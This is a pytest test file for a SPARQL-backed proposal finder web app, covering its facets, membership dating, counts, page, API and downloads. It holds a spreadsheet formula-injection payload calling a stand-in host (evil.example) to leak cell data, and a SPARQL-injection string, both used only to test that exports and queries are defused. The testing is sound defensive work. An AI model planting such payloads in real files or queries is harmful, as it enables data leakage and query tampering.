"""The proposal finder: facets -> SPARQL (graph.query.finder), the /proposals page, its
downloads and links, on the report's store and on small stores made for one rule."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import date
from urllib.parse import parse_qs, urlsplit

import pyoxigraph as ox
import pytest
from fastapi.testclient import TestClient

from graph.errors import UsageError
from graph.iris import ENTITY_BASE
from graph.query.finder import (
    FACETS,
    Selection,
    constraints,
    facet_counts,
    matching_proposals,
    resolve_selection,
    selection_sparql,
)
from graph.store import OxigraphStore
from tests.api.conftest import make_app

FLAGSHIP = Selection(actor=("jpn", "kor"), member_of=("aus",))


def _slugs(store: OxigraphStore, sparql: str) -> set[str]:
    """The ``?p`` of a SELECT written by hand, as slugs."""
    rows = store.query(sparql)
    assert isinstance(rows, ox.QuerySolutions)
    return {row["p"].value.removeprefix(ENTITY_BASE) for row in rows}


@pytest.fixture(scope="module")
def report(report_store: OxigraphStore) -> Iterator[TestClient]:
    with TestClient(make_app(report_store)) as client:
        yield client


def test_the_flagship_question_has_its_fifteen_answers(report_store: OxigraphStore) -> None:
    by_hand = _slugs(
        report_store,
        "SELECT DISTINCT ?p WHERE { ?p a pg:Proposal ; pg:involves id:jpn, id:kor ;"
        " pg:concerns ?f . id:aus pg:memberOf ?f }",
    )
    assert len(by_hand) == 15
    assert set(matching_proposals(report_store, FLAGSHIP)) == by_hand


def test_all_of_them_is_the_intersection_and_any_the_union(report_store: OxigraphStore) -> None:
    one = {a: set(matching_proposals(report_store, Selection(actor=(a,)))) for a in ("chn", "rus")}
    both = set(matching_proposals(report_store, Selection(actor=("chn", "rus"))))
    either = set(matching_proposals(report_store, Selection(actor=("chn", "rus"), actors="any")))
    assert both == one["chn"] & one["rus"] and either == one["chn"] | one["rus"]
    assert both < either  # the two modes differ on this data
    frameworks = Selection(framework=("ipef", "cptpp"), frameworks="any")
    assert set(matching_proposals(report_store, frameworks)) == _slugs(
        report_store,
        "SELECT DISTINCT ?p WHERE { ?p a pg:Proposal ; pg:concerns ?f VALUES ?f { id:ipef id:cptpp } }",
    )


@pytest.mark.parametrize("actor", ["aus", "jpn", "kor", "gbr", "ind"])
def test_membership_as_of_today_is_current_membership(
    report_store: OxigraphStore, actor: str
) -> None:
    today = Selection(member_of=(actor,))
    dated = Selection(member_of=(actor,), as_of=date.today())
    assert matching_proposals(report_store, dated) == matching_proposals(report_store, today)
    assert matching_proposals(report_store, today)


MEMBERSHIPS = """
INSERT DATA { GRAPH <urn:test> {
    id:p-old a pg:Proposal ; pg:concerns id:old .
    id:p-new a pg:Proposal ; pg:concerns id:new .
    id:p-idea a pg:Proposal ; pg:concerns id:idea .
    id:p-watch a pg:Proposal ; pg:concerns id:watched .
    id:p-paused a pg:Proposal ; pg:concerns id:paused .
    id:old a pg:Framework . id:new a pg:Framework . id:idea a pg:Framework ; pg:status pg:Proposed .
    id:watched a pg:Framework . id:paused a pg:Framework ; pg:status pg:Suspended ;
        pg:suspendedOn "2020-06-01"^^xsd:date .
    [] a pg:Membership ; pg:member id:aus ; pg:framework id:old ;
        pg:startDate "1990"^^xsd:gYear ; pg:endDate "2010-03"^^xsd:gYearMonth .
    [] a pg:Membership ; pg:member id:aus ; pg:framework id:new ; pg:startDate "2021"^^xsd:gYear .
    [] a pg:Membership ; pg:member id:aus ; pg:framework id:idea .
    [] a pg:Membership ; pg:member id:aus ; pg:framework id:watched ; pg:role pg:Observer .
    [] a pg:Membership ; pg:member id:aus ; pg:framework id:paused ; pg:startDate "2000"^^xsd:gYear .
    pg:Observer pg:impliesMembership false .
} }"""


@pytest.mark.parametrize(
    ("day", "expected"),
    [
        ("1989-12-31", []),
        ("1990-01-01", ["p-old"]),  # a year counts from its first day
        ("2010-03-31", ["p-old", "p-paused"]),  # and a month to its last
        ("2010-04-01", ["p-paused"]),
        ("2020-05-31", ["p-paused"]),
        ("2020-06-01", []),  # suspended from that day
        ("2021-01-01", ["p-new"]),
    ],
)
def test_membership_as_of_a_date_follows_start_end_role_and_status(
    day: str, expected: list[str]
) -> None:
    store = OxigraphStore.memory()
    store.update(MEMBERSHIPS)
    dated = Selection(member_of=("aus",), as_of=date.fromisoformat(day))
    assert matching_proposals(store, dated) == expected


def test_counts_follow_the_selection(report_store: OxigraphStore) -> None:
    """Choosing a value gives as many proposals as its count said, in every facet."""
    base = Selection(actor=("kor",), level=("SummaryProposal",))
    for name in FACETS:
        counts = facet_counts(report_store, base, name)
        assert counts, name
        for shown in counts[:3]:
            chosen = Selection.of(
                {**_params(base, without=name if not FACETS[name].multi else None),
                 name: [*(base.values(name) if FACETS[name].multi else ()), shown.value]}
            )  # fmt: skip
            assert len(matching_proposals(report_store, chosen)) == shown.count, (name, shown)


def _params(selection: Selection, without: str | None = None) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for key, value in selection.params():
        if key != without:
            found.setdefault(key, []).append(value)
    return found


def test_an_any_facet_counts_without_itself(report_store: OxigraphStore) -> None:
    either = Selection(actor=("chn", "rus"), actors="any")
    counts = {c.value: c.count for c in facet_counts(report_store, either, "actor")}
    alone = len(matching_proposals(report_store, Selection(actor=("prk",))))
    assert counts["prk"] == alone


@pytest.mark.parametrize(
    ("selection", "by_hand"),
    [
        (Selection(ask=("proposesJoining",), actor=("kor",)),
         "?p pg:proposesJoining ?x ; pg:involves id:kor ."),
        (Selection(status=("Proposed",), part=("jkvg2025-part-2",)),
         "?p pg:concerns ?f ; pg:inSection/pg:partOf id:jkvg2025-part-2 . ?f pg:status pg:Proposed ."),
        (Selection(level=("ChapterRecommendation",), topic=("topic-supply-chains",)),
         "?p pg:level pg:ChapterRecommendation ; pg:addresses id:topic-supply-chains ."),
        (Selection(section=("jkvg2025-part-1",)),
         "?p pg:inSection ?s . ?s pg:partOf id:jkvg2025-part-1 ."),
    ],
)  # fmt: skip
def test_each_facet_keeps_what_its_sparql_says(
    report_store: OxigraphStore, selection: Selection, by_hand: str
) -> None:
    expected = _slugs(report_store, f"SELECT DISTINCT ?p WHERE {{ ?p a pg:Proposal . {by_hand} }}")
    assert expected
    assert set(matching_proposals(report_store, selection)) == expected


def test_names_in_three_languages_resolve_and_are_never_spliced(
    report_store: OxigraphStore,
) -> None:
    named = Selection(actor=("Japan", "韓国"), member_of=("Australia",))
    assert resolve_selection(report_store, named) == FLAGSHIP
    with pytest.raises(UsageError, match="not a slug"):
        selection_sparql(Selection(actor=("kor> . ?s ?p ?o } #",)))
    with pytest.raises(UsageError, match="ask: 'joining' is not one of"):
        Selection.of({"ask": ["joining"]})
    with pytest.raises(UsageError, match="actors: 'both' is neither"):
        Selection.of({"actors": ["both"]})


def test_a_chapter_given_as_a_section_is_a_part(report: TestClient) -> None:
    page = report.get("/proposals", params={"section": "jkvg2025-part-1"}).text
    assert re.search(r'<option value="jkvg2025-part-1" selected>The International Order', page)
    assert 'id="permalink" href="/proposals?part=jkvg2025-part-1"' in page


def test_permalink_round_trips(report_store: OxigraphStore) -> None:
    selection = Selection(
        actor=("chn", "rus"), actors="any", member_of=("aus",), as_of=date(2020, 1, 1),
        ask=("callsOn",), level=("SubProposal",),
    )  # fmt: skip
    assert Selection.of(_params(selection), selection.as_of) == selection


def test_the_page_answers_the_flagship_question_by_name(report: TestClient) -> None:
    response = report.get(
        "/proposals", params={"actor": ["Japan", "Korea"], "member_of": "Australia"}
    )
    assert response.status_code == 200
    page = response.text
    assert (
        "15 of 160 proposals involve Japan and Republic of Korea; "
        "concern a framework Australia belongs to (today)." in page
    )
    assert len(re.findall(r'<article class="proposal"', page)) == 15
    assert 'href="/proposals?actor=jpn&amp;actor=kor&amp;member_of=aus" ' in page  # permalink
    assert re.search(r'id="f-actor-jpn" name="actor" value="jpn" checked', page)
    # The workbench's query gives the page's rows.
    link = re.search(r'id="open-workbench" href="([^"]+)"', page)
    assert link
    query = parse_qs(urlsplit(link.group(1).replace("&amp;", "&")).query)["query"][0]
    rows = report.get("/sparql", params={"query": query}, headers={"accept": "text/csv"})
    slugs = {line.split(",")[0].removeprefix(ENTITY_BASE) for line in rows.text.splitlines()[1:]}
    shown = set(re.findall(r'<article class="proposal" [^>]*data-slug="([^"]+)"', page))
    assert slugs == shown and len(shown) == 15
    assert 'href="/viz/proposals?actor=jpn&amp;actor=kor&amp;member_of=aus"' in page


def test_an_ambiguous_or_unknown_name_offers_choices(report: TestClient) -> None:
    ambiguous = report.get("/proposals", params={"actor": ["MOFA", "jpn"]})
    assert ambiguous.status_code == 300
    assert "“MOFA”</strong> names several entities — which one?" in ambiguous.text
    assert "Ministry of Foreign Affairs of Japan (government agency)</a>" in ambiguous.text
    assert 'href="/proposals?actor=jpn-mofa&amp;actor=jpn"' in ambiguous.text
    assert "involve Japan." in ambiguous.text  # the rest of the selection still applies
    unknown = report.get("/proposals", params={"actor": "Austrlia"})
    assert unknown.status_code == 404
    assert "names no entity; the closest are:" in unknown.text
    assert 'href="/proposals?actor=aus"' in unknown.text
    dated = report.get("/proposals", params={"member_of": "gbr", "as_of": "2020-01-01"}).text
    assert "United Kingdom (as of 2020-01-01) <a" in dated  # the chip says the date
    api = report.get("/api/proposals", params={"actor": "MOFA"})
    assert api.status_code == 400 and "jpn-mofa" in api.json()["error"]
    assert report.get("/api/proposals", params={"ask": "joining"}).status_code == 422
    assert report.get("/api/proposals", params={"as_of": "2025-13-01"}).status_code == 422


HOSTILE_LABEL = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture()
def hostile() -> Iterator[TestClient]:
    store = OxigraphStore.memory()
    store.update(
        "INSERT DATA { GRAPH <urn:test> { id:p-bad a pg:Proposal ; rdfs:label "
        f'"{HOSTILE_LABEL.replace(chr(34), chr(92) + chr(34))}"@en ; pg:involves id:kor . '
        'id:kor a pg:Country, pg:Actor ; rdfs:label "Korea"@en } }'
    )
    with TestClient(make_app(store)) as client:
        yield client


def test_csv_download_is_defused_for_spreadsheets(hostile: TestClient) -> None:
    response = hostile.get("/proposals.csv", params={"actor": "Korea"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="proposals.csv"' in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["proposal", "iri", "label (en)"]
    assert rows[1][0] == "p-bad" and rows[1][2] == "'" + HOSTILE_LABEL
    assert rows[1][7] == "Korea"


def test_xlsx_download_keeps_text_as_text(hostile: TestClient) -> None:
    from openpyxl import load_workbook  # type: ignore[import-untyped]

    response = hostile.get("/proposals.xlsx", params={"actor": "kor"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows(max_row=2))
    assert [c.value for c in header][:3] == ["proposal", "iri", "label (en)"]
    assert row[2].value == HOSTILE_LABEL and row[2].data_type == "s"  # not a formula


def test_the_api_takes_the_finder_parameters_and_documents_them(report: TestClient) -> None:
    api = report.get("/api/proposals", params={"actor": ["jpn", "kor"], "member_of": "aus"})
    assert len(api.json()) == 15
    documented = {
        p["name"] for p in report.get("/openapi.json").json()["paths"]["/api/proposals"]["get"][
            "parameters"
        ]
    }  # fmt: skip
    assert {"actor", "actors", "framework", "frameworks", "member_of", "as_of", "ask",
            "topic", "part", "section", "level", "status"} <= documented  # fmt: skip


def test_the_view_draws_the_same_selection(report: TestClient, report_store: OxigraphStore) -> None:
    response = report.get(
        "/viz/proposals", params={"actor": ["jpn", "kor"], "member_of": "aus", "embed": "1"}
    )
    assert response.status_code == 200
    drawn = set(re.findall(r"proposal-[a-z0-9-]+", response.text))
    assert drawn == set(matching_proposals(report_store, FLAGSHIP))
    assert (
        "Proposals involving Japan and Republic of Korea; concerning a framework" in response.text
    )
    assert report.get("/viz/proposals", params={"level": "Top"}).status_code == 422


@pytest.mark.parametrize(
    "selection",
    [
        Selection(),
        Selection(actor=("kor",)),
        Selection(level=("SummaryProposal",), framework=("quad",)),
    ],
)
def test_member_of_counts_are_the_join_the_facet_means(
    report_store: OxigraphStore, selection: Selection
) -> None:
    """The facet "concerns a framework this actor belongs to", counted in Python, gives what
    the join written by hand gives: per actor, the proposals concerning one of its frameworks."""
    by_hand = report_store.query(
        "SELECT ?value (COUNT(DISTINCT ?proposal) AS ?n) WHERE {\n"
        "  ?proposal a pg:Proposal .\n" + constraints(selection) + "\n"
        "  ?proposal pg:concerns ?f . ?value pg:memberOf ?f .\n} GROUP BY ?value"
    )
    expected = {
        row["value"].value.rsplit("/", 1)[1]: int(row["n"].value)
        for row in by_hand  # type: ignore[union-attr]
    }
    counts = facet_counts(report_store, selection, "member_of")
    assert {c.value: c.count for c in counts} == expected
    assert len(expected) > 3
    assert [c.count for c in counts] == sorted((c.count for c in counts), reverse=True)
    assert all(c.label for c in counts)  # every member has an English name
